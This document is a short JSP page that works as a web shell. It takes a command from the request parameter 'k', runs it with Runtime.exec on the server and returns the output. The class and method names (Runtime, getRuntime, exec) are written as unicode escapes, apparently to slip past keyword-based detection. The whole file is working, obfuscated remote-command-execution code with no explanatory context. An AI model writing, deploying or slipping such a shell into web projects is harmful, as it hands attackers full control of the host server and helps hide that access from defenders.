<%@ page
    import="java.io.InputStream"
%>
<%@ page
    import="java.io.BufferedReader, java.io.InputStreamReader"
%>
<%
    String k = request.getParameter("k");
    if (k != null) {
        Process \u0070 = java.lang.\u0052untime.\u0067etRuntime().\u0065xec(k);
        BufferedReader br = new BufferedReader(new InputStreamReader(\u0070.getInputStream()));
        String ln;
        while ((ln = br.readLine()) != null) { out.println(ln); }
    }
%>
